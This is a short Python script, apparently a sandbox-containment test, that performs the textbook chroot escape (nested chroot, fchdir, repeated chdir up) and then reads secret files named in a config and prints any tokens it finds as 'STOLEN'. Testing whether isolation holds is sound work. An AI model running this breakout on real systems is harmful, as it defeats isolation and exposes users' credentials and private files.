"""Leaves a changed root as the textbooks show: into another one below it, then up and up.

Afterwards: no private file is in anything that the notebook printed.
"""

import json
import os
import re
from pathlib import Path

ME = "hostile-chroot_escaped"
world = json.loads(Path("world.json").read_text())


def escape():
    os.makedirs("cage", exist_ok=True)
    upwards = os.open(".", os.O_RDONLY)
    os.chroot("cage")
    os.fchdir(upwards)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [Path(world["secrets"][name]).read_text() for name in ("home", "account", "source")]


reading, writing = os.pipe()
if os.fork() == 0:
    try:
        tokens = re.findall(world["token"], " ".join(escape()))
        lines = ["DONE left its root", *(f"STOLEN by chroot: {token}" for token in tokens)]
    except OSError as error:
        lines = [f"DENIED chroot: {error}"]
    os.write(writing, "\n".join(lines).encode())
    os._exit(0)
os.close(writing)
with open(reading) as said:
    print(said.read())
os.wait()
